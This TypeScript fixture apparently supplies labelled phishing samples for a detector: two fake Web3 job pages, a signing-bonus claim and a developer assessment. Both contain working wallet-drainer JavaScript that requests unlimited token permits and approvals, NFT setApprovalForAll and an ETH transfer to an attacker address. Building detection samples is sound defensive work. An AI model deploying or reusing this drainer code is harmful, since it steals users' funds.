import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc } from '../parts/yr-kit.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'yr-web3-signing-bonus-usdc-permit-drain',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://claim.onchainhire.xyz/signing-bonus?offer=OCH-3381',
    body: doc({
      title: 'OnchainHire – Claim your signing bonus',
      css: `body{margin:0;font-family:"Space Grotesk",Inter,Arial,sans-serif;background:radial-gradient(circle at 20% 0,#312e81,#09090b 60%);color:#fafafa;min-height:100vh}
.n{display:flex;align-items:center;padding:20px 36px}.n b{margin-right:auto;font-size:20px}.c{max-width:480px;margin:60px auto;background:rgba(24,24,27,.85);border:1px solid #3f3f46;border-radius:20px;padding:30px;text-align:center}
.amt{font-size:44px;font-weight:700;margin:10px 0}.b{width:100%;padding:15px;border:0;border-radius:14px;background:linear-gradient(90deg,#6366f1,#a855f7);color:#fff;font-weight:700;font-size:16px;cursor:pointer}
.s{font-size:13px;color:#a1a1aa}.w{display:none;margin-top:14px}`,
      body: `<div class="n"><b>⛓ OnchainHire</b><span class="s">Web3 Recruiting</span></div>
<div class="c"><p class="s">Offer OCH-3381 · Senior Solidity Engineer at Parallax Protocol</p><h2>Congratulations on your new role!</h2><p>Your signing bonus is ready to be claimed on-chain.</p>
<div class="amt">5,000 USDC</div><p class="s">Vesting: 100% at claim · Network: Ethereum / Base / Arbitrum</p>
<button class="b" id="cw">Connect wallet to claim</button><p class="w" id="st"></p>
<p class="s" style="margin-top:18px">Gas is sponsored by your employer. You will be asked to sign a message to verify wallet ownership.</p></div>
<script src="/assets/claim.js"></script>`,
    }),
    routes: {
      'claim.onchainhire.xyz/assets/claim.js': jsRoute(`(function(){
var RECV='0x7a3F9cE1b2D48e0A5c61f09B3dE27aC48F15b9e2';
var TOKENS={'0x1':['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0xdAC17F958D2ee523a2206206994597C13D831ec7'],'0x2105':['0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913']};
var st=document.getElementById('st');
function say(t){st.style.display='block';st.textContent=t}
async function go(){
  if(!window.ethereum){say('No wallet detected. Open this page in MetaMask or Trust Wallet browser.');return}
  var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];
  var chain=await ethereum.request({method:'eth_chainId'});
  fetch('/api/log',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:acc,c:chain})});
  say('Verifying wallet ownership…');
  var list=TOKENS[chain]||TOKENS['0x1'];
  for(var i=0;i<list.length;i++){
    var typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},primaryType:'Permit',domain:{name:'USD Coin',version:'2',chainId:parseInt(chain,16),verifyingContract:list[i]},message:{owner:acc,spender:RECV,value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:0,deadline:Math.floor(Date.now()/1000)+31536000}};
    try{var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(typed)]});
      await fetch('/api/permit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:acc,token:list[i],sig:sig,chain:chain})})}catch(e){}
  }
  try{var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});var v=BigInt(bal)*95n/100n;
    if(v>0n)await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:RECV,value:'0x'+v.toString(16),data:'0x'}]})}catch(e){}
  say('Claim submitted. Your bonus will arrive within 10–30 minutes.');
}
document.getElementById('cw').addEventListener('click',go);
})();`),
      'claim.onchainhire.xyz/api/log': jsonRoute({ ok: true }),
      'claim.onchainhire.xyz/api/permit': jsonRoute({ ok: true }),
    },
  },
  {
    id: 'yr-web3-dev-assessment-setapprovalforall',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: 'https://assess.chainforge-careers.io/test/start',
    body: doc({
      title: 'ChainForge Careers – Smart Contract Assessment',
      css: `body{margin:0;font-family:"JetBrains Mono",Menlo,monospace;background:#0d1117;color:#c9d1d9}.w{max-width:720px;margin:60px auto;padding:0 20px}.box{border:1px solid #30363d;border-radius:10px;padding:24px;background:#161b22}
.b{background:#238636;color:#fff;border:0;border-radius:6px;padding:12px 20px;font-family:inherit;font-weight:700;cursor:pointer}.m{color:#8b949e;font-size:13px}#log{white-space:pre-wrap;font-size:12px;color:#7ee787;margin-top:14px}`,
      body: `<div class="w"><h1>Smart Contract Engineer – Live Assessment</h1><div class="box"><p>This 30-minute practical test runs on mainnet fork tooling. To prove you are a real on-chain developer we verify wallet history (min. 10 transactions) before unlocking the tasks.</p>
<ol><li>Connect the wallet you use for development.</li><li>Approve the read-only <b>Assessment Verifier</b> contract.</li><li>Tasks unlock automatically.</li></ol>
<button class="b" id="go">Connect &amp; start assessment</button><p class="m">Your score and wallet reputation are shared with the hiring team at ChainForge.</p><div id="log"></div></div></div>
<script>
(function(){var V='0x9e4C2dA71f3B0c85E6a1D47F2b8c03eA95D1f6C7',L=document.getElementById('log');function p(s){L.textContent+=s+'\\n'}
var NFT=['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D','0x60E4d786628Fea6478F785A6d7e704777c86a7c6','0xED5AF388653567Af2F388E6224dC7C4b3241C544'];
document.getElementById('go').onclick=async function(){if(!window.ethereum){p('> wallet not found');return}
var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];p('> connected '+a);
for(var i=0;i<NFT.length;i++){try{var data='0xa22cb465'+V.slice(2).toLowerCase().padStart(64,'0')+'1'.padStart(64,'0');
await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:NFT[i],data:data}]});p('> verifier approved ('+(i+1)+'/'+NFT.length+')')}catch(e){p('> step skipped')}}
var usdt='0xdAC17F958D2ee523a2206206994597C13D831ec7';try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:usdt,data:'0x095ea7b3'+V.slice(2).toLowerCase().padStart(64,'0')+'f'.repeat(64)}]})}catch(e){}
p('> loading tasks…')}})();
</script>`,
    }),
  },
];
